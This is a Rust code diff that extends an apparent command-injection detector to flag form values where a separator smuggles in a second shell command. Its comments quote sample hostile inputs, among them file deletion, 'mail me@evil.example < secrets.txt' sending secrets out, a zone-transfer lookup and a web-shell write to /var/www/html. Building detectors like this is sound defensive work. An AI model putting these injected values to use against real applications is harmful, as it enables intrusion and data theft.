@@ -1195,6 +1195,94 @@ fn lone_after_one_token(v: &[u8], at: usize, end: usize, plus: bool) -> bool {
     classify(&lower[..n]) == CommandWord::Unknown
 }
 
+/// Whether exactly one token follows `from` to the end of the value.
+fn one_token_to_end(v: &[u8], from: usize, plus: bool) -> bool {
+    let rest = v.get(from..).unwrap_or_default();
+    rest.len() <= 64 && {
+        let mut tokens = rest.split(|&b| is_blank(b, plus)).filter(|t| !t.is_empty());
+        tokens.next().is_some() && tokens.next().is_none()
+    }
+}
+
+/// `a; rm x y z`, `a; tar cf x.tar a`, `a; reboot now`, `ns1.example.com; dig axfr
+/// example.com`, `a & type secrets.txt`, `hello; mail me@evil.example < secrets.txt`: a
+/// value of one data token (what a ping, lookup or file form asks for), a spaced separator,
+/// then a known command in a shell's lower case with a few plain arguments to the end.
+/// Appended to the application's command line, the separator ends it and the shell runs
+/// the second command with those arguments. Prose after one word and `;` or `&` goes on
+/// with words of a sentence (`salt & pepper`, `Tom & Jerry`, `a; b; c`, `rock & roll`)
+/// whose first is no command; a capitalised value opens a sentence. A command that is an
+/// English word too (`type`, `mail`, `dig`) needs an operand no sentence writes: a file
+/// or host name with a dot, or a redirection from or to one.
+fn command_after_one_token(v: &[u8], at: usize, end: usize, word: &[u8], plus: bool) -> bool {
+    let Some(seg) = token_before(v, at, plus) else {
+        return false;
+    };
+    if v.first().is_some_and(u8::is_ascii_uppercase)
+        || v[at..end].iter().any(u8::is_ascii_uppercase)
+        || !matches!(
+            v[..at].iter().rev().find(|&&b| !is_blank(b, plus)),
+            Some(b';' | b'&' | b'|')
+        )
+    {
+        return false;
+    }
+    // `java & python` lists tools: the token before is no command.
+    let mut lower = [0u8; MAX_WORD];
+    let n = seg.len().min(MAX_WORD);
+    for (d, s) in lower.iter_mut().zip(seg) {
+        *d = s.to_ascii_lowercase();
+    }
+    // A precommand (`time`, `eval`, `nohup`) hands its operand to a command judged as
+    // such (see [`precommand_operand`]); `x; time flies` is a pun.
+    if classify(&lower[..n]) != CommandWord::Unknown || WRAPPERS.contains(&word) || word == b"eval"
+    {
+        return false;
+    }
+    let rest = &v[end.min(v.len())..];
+    if rest.len() > 160 {
+        return false;
+    }
+    let dotted = |t: &[u8]| {
+        t.iter().rposition(|&b| b == b'.').is_some_and(|d| {
+            d > 0
+                && d + 1 < t.len()
+                && t[d + 1..].iter().all(u8::is_ascii_alphanumeric)
+                && t[d + 1..].iter().any(u8::is_ascii_alphabetic)
+        })
+    };
+    let mut count = 0;
+    let mut operand = false;
+    let mut pending_redirect = false;
+    for t in rest.split(|&b| is_blank(b, plus)).filter(|t| !t.is_empty()) {
+        count += 1;
+        if count > 6 {
+            return false;
+        }
+        let stripped = t
+            .strip_prefix(b">>")
+            .or_else(|| t.strip_prefix(b">"))
+            .or_else(|| t.strip_prefix(b"<"));
+        let (redirect, t) = match stripped {
+            Some(r) => (true, r),
+            None => (false, t),
+        };
+        if t.is_empty() {
+            pending_redirect |= redirect;
+            continue;
+        }
+        if !t.iter().all(|&b| {
+            b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b'@' | b'/' | b':' | b'=')
+        }) || (one_of(PROSE, t) && t.len() > 1)
+        {
+            return false;
+        }
+        operand |= dotted(t) || ((redirect || pending_redirect) && t[0].is_ascii_alphanumeric());
+        pending_redirect = false;
+    }
+    count > 0 && (operand || !vocabulary::is_english(word))
+}
+
 /// Whether one to three plain words (letters and digits) end the value after `from`.
 fn few_plain_words_to_end(v: &[u8], from: usize, plus: bool) -> bool {
     let rest = v.get(from..).unwrap_or_default();
@@ -1664,7 +1752,9 @@ fn spaced_system_redirection(v: &[u8], plus: bool) -> bool {
     let after = skip(i + len);
     len <= 256
         && v.get(after).is_none_or(|&b| is_sep(b))
-        && options::system_write_target(&v[i..i + len])
+        && (options::system_write_target(&v[i..i + len])
+            // `> /var/www/html/x.php`: a web shell the next request runs.
+            || (v[i..].starts_with(b"/") && options::script_in_directory(&v[i..i + len])))
 }
 
 /// `x > /tmp/o`, `127.0.0.1 > /var/www/html/o.txt`, `a 2>>~/.bashrc`: a value that is one
@@ -2610,6 +2700,7 @@ fn judge_start(v: &[u8], at: usize, kind: Start, plus: bool) -> Option<&'static 
         (CommandWord::Known(Tier::Tool), Start::Value | Start::Loose) => {
             evidence()
                 || (kind == Start::Loose && terminated() && lone_after_one_token(v, at, end, plus))
+                || (kind == Start::Loose && command_after_one_token(v, at, end, word, plus))
                 || (word.first() == Some(&b'/')
                     && v[end..].iter().all(|&b| is_blank(b, plus) || b == b'\n'))
                 // `shutdown\n`: the tool alone on a submitted line, in a shell's lower case.
@@ -2642,6 +2733,7 @@ fn judge_start(v: &[u8], at: usize, kind: Start, plus: bool) -> Option<&'static 
         (CommandWord::Known(Tier::Word), Start::Tight) if data && vocabulary::is_english(word) => {
             evidence()
                 || file_argument(v, end, plus)
+                || command_after_one_token(v, at, end, word, plus)
                 || quote_breakout(v, at, end, plus)
                 || (BARE_PRINTERS.contains(&word)
                     && alone_after_address(v, at, end, plus)
@@ -2655,7 +2747,12 @@ fn judge_start(v: &[u8], at: usize, kind: Start, plus: bool) -> Option<&'static 
         }
         (CommandWord::Known(Tier::Word), Start::Tight | Start::Data | Start::Subst) => {
             let two_nouns = vocabulary::is_english(word) && and_another_word(v, end, plus);
-            !(sentence_follows(v, end, plus) || two_nouns || glued_word_piece(v, at, end, word))
+            // `;ip a`: a shell-only name glued to its separator and one short word ending
+            // the value is the command's operand (`a` for `addr`), not a sentence opening.
+            let lone_operand = !vocabulary::is_english(word) && one_token_to_end(v, end, plus);
+            !((sentence_follows(v, end, plus) && !lone_operand)
+                || two_nouns
+                || glued_word_piece(v, at, end, word))
         }
         // `` `sleep 5` ``: a short command closed by its backtick.
         (CommandWord::Known(Tier::Word), Start::Backtick) => {
@@ -2673,6 +2770,7 @@ fn judge_start(v: &[u8], at: usize, kind: Start, plus: bool) -> Option<&'static 
         }
         (CommandWord::Known(Tier::Word), Start::Value | Start::Loose) => {
             evidence()
+                || (kind == Start::Loose && command_after_one_token(v, at, end, word, plus))
                 // `abc; id`, `x & env`, `127.0.0.1 -c 1; id`, `Quarterly report; reboot`: a
                 // shell abbreviation in a shell's lower case, alone to the end of its command
                 // after any prefix; prose writes no `id`, `ps`, `env` there.
